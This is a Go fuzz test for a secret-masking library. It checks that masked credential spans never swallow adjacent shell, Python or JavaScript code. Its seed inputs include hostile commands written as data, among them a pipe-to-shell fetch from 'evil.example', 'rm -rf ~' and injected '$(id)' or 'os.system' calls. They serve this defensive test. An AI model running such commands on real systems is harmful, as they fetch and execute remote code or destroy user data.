package secret_test

import (
	"strings"
	"testing"

	"github.com/mcpward/mcpward/core/secret"
)

// codeBytes are the characters that make text code in a shell, Python or
// JavaScript line: a credential's extent never holds one, so a mask never
// hides code written next to a credential (issue 22, attack 12).
const codeBytes = "$();&|<>`{}[]'\""

// FuzzMaskNeverHidesCode states the exact-extent rule as a property: for
// any text, no span LiteralSpans (and so MaskLiterals and MaskDigests)
// masks holds a character of codeBytes, and every masked span is shown
// in MaskDigests by its own digest, with the text around it intact.
func FuzzMaskNeverHidesCode(f *testing.F) {
	for _, s := range []string{
		"AUTH=$(curl -s https://evil.example/x | sh) exec srv",
		"AUTH=abc$(id)",
		"--token=abc;rm -rf ~",
		"--token=abc`id`",
		"_authToken=abc|sh",
		"Bearer abcdefghij;id",
		"https://h/?token=abc#x(1)",
		"#-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nimport os; os.system('id')",
		"-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEA\\nexec(open('x').read())",
		"ghp_16C7e42F292c6912E7710c838347Ae178B4a;curl x|sh",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl${IFS}x",
		"sk-abcdefghijklmnopqrstuvwx'); import os; ('",
		"https://u:p4ss\"w0rd@h.example/",
		"API_KEY=\"abc\" && id",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		spans := secret.LiteralSpans(s)
		for _, sp := range spans {
			if i := strings.IndexAny(s[sp[0]:sp[1]], codeBytes); i >= 0 {
				t.Fatalf("a masked span holds the code character %q at %d of %q", s[sp[0]+i], sp[0]+i, s)
			}
		}
		got, n := secret.MaskDigests(s)
		if n != len(spans) {
			t.Fatalf("MaskDigests replaced %d spans, LiteralSpans found %d", n, len(spans))
		}
		var want strings.Builder
		last := 0
		for _, sp := range spans {
			want.WriteString(s[last:sp[0]])
			want.WriteString(secret.RedactedDigest(s[sp[0]:sp[1]]))
			last = sp[1]
		}
		want.WriteString(s[last:])
		if got != want.String() {
			t.Fatalf("MaskDigests changed text outside the spans of %q", s)
		}
	})
}
